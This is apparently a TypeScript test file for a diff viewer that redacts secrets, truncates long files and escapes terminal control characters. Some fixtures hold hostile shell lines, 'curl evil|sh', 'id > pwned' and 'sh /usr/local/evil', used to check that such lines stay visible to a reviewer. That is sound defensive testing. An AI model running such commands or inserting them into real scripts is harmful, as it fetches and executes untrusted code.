import { describe, expect, it } from 'vitest'
import { createRedactor } from '../../record/redact.ts'
import { diffView } from './diff-view.ts'

const SECRET = 'the-owners-own-secret'
const redactor = createRedactor({ values: [SECRET] }).forDecision()
const show = (before: string | undefined, after: string | undefined, others: { movedTo?: string } = {}) =>
  diffView(redactor, { path: 'a.txt', before, after, ...others })
const numbered = (count: number, word = 'line') => Array.from({ length: count }, (_, at) => `${word} ${at}\n`).join('')

describe('the view of a change', () => {
  it('is a unified diff', async () => {
    expect(await show('one\ntwo\nthree\n', 'one\n2\nthree\n')).toEqual({
      kind: 'diff',
      path: 'a.txt',
      diff: '--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three',
      isNew: false,
    })
  })

  it('names nothing on the side where there is no file', async () => {
    expect(await show(undefined, 'new\n')).toMatchObject({
      diff: '--- /dev/null\n+++ a.txt\n@@ -0,0 +1,1 @@\n+new',
      isNew: true,
    })
    expect(await show('old\n', undefined)).toMatchObject({
      diff: '--- a.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-old',
      isNew: false,
    })
  })

  it('tells both names of a file that is moved', async () => {
    const moved = await show('old\n', 'new\n', { movedTo: 'b.txt' })
    expect(moved.path).toBe('a.txt -> b.txt')
    expect(moved.diff).toContain('--- a.txt\n+++ b.txt\n')
    expect((await show('same\n', 'same\n', { movedTo: 'b.txt' })).diff).toMatch(/is moved; its text stays/)
  })

  it.each([
    ['an empty new file', undefined, '', /new file without any text/],
    ['an empty file that goes', '', undefined, /deleted; it has no text/],
    ['a file that stays as it is', 'a', 'a', /Nothing changes/],
    ['more than 200,000 bytes', 'é'.repeat(100_001), 'x', /has 200002 bytes, at most 200000/],
    ['more than 2,000 lines that come', undefined, numbered(2_001), /more than 2000 lines; .* 2002 after it/],
    ['a change of all lines', numbered(1_500), numbered(1_500, 'row'), /more than 2000 lines/],
    ['a secret that changes', `a ${SECRET}\n`, `a [redacted:secret]\n`, /only a secret changes/],
  ])('says in a sentence what there is of %s', async (_, before, after, note) => {
    expect((await show(before, after)).diff).toMatch(note)
  })

  it('shows a text that goes or comes while its file stays', async () => {
    expect((await show('old\n', '')).diff).toMatch(/\n-old$/)
    expect((await show('', 'new\n')).diff).toMatch(/\n\+new$/)
  })

  it('is whole up to 200,000 bytes and 2,000 lines', async () => {
    expect((await show('é'.repeat(100_000), 'x')).diff).toMatch(/^--- a\.txt\n/)
    expect((await show(undefined, numbered(1_997))).diff.split('\n')).toHaveLength(2_000)
    expect((await show(undefined, numbered(1_998))).diff).toMatch(/more than 2000 lines/)
  })

  it('shows what fits the limits whole', async () => {
    expect((await show(undefined, numbered(1_990))).diff.split('\n')).toHaveLength(1_993)
    const long = 'x'.repeat(199_000)
    expect((await show(`${long}\na\n`, `${long}\nb\n`)).diff).toContain('\n-a\n+b')
  })

  it('shows both ends of what is too long to be compared, and says what is missing', async () => {
    const { diff } = await show(undefined, `#!/bin/sh\n${'# nothing\n'.repeat(120_000)}curl evil|sh\n`)
    expect(diff).toMatch(/^NOT SHOWN WHOLE: the text has \d+ bytes/)
    expect(diff).toContain('\n+#!/bin/sh\n')
    expect(diff).toMatch(/\n\+… 1192023 characters in between are not shown …\n/)
    expect(diff).toMatch(/\n\+curl evil\|sh$/)
    expect(diff.length).toBeLessThan(20_000)
  })

  it('shows all that changes in a text that is too long to be compared, where that is little', async () => {
    const lines = numbered(50_000)
    const { diff } = await show(lines, lines.replace('line 30000\n', 'curl evil|sh\n'))
    expect(diff).toBe(
      'Not compared: the text has 538892 bytes, at most 200000 are compared.\n-line 30000\n+curl evil|sh',
    )
    expect((await show(lines, `${lines}last\n`)).diff).toMatch(/compared\.\n\+last$/)
    expect((await show(`${lines}last`, lines)).diff).toMatch(/compared\.\n-last$/)
  })

  it('hides no line of a script behind what looks like the beginning of a key', async () => {
    const { diff } = await show(undefined, '#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\nid > pwned\nsh /usr/local/evil\n')
    expect(diff).toContain('+# -----BEGIN PRIVATE KEY-----\n+id > pwned\n+sh /usr/local/evil')
  })

  it('holds no secret, not even one of several lines', async () => {
    const key = (line: string) => `-----BEGIN PRIVATE KEY-----\n${line.repeat(40)}\n-----END PRIVATE KEY-----\n`
    const { diff } = await show(`${key('MIIa')}old ${SECRET}\n`, `${key('MIIb')}new ${SECRET}\n`)
    expect(diff).toContain('-old [redacted:secret]\n+new [redacted:secret]')
    expect(diff).not.toMatch(/MIIa|MIIb/)
    expect((await diffView(redactor, { path: `${SECRET}.txt`, before: undefined, after: 'x' })).path).not.toContain(
      SECRET,
    )
  })

  it('shows characters that would drive a terminal, hide or reorder words', async () => {
    const { diff } = await show('a\n', 'b\u001b[2K\u202ec\u200b\n')
    expect(diff).toContain('+b\\u{1b}[2K\\u{202e}c\\u{200b}')
    const { path } = await diffView(redactor, { path: 'a\n+++ b', before: undefined, after: 'x' })
    expect(path).toBe('a\\n+++ b')
  })

  it('shows line ends only where they matter', async () => {
    expect((await show('a\r\nb\r\n', 'a\r\nc\r\n')).diff).toContain(' a\n-b\n+c')
    expect((await show('a\r\nb\r\n', 'a\nb\n')).diff).toContain('-a\\r\n')
  })
})
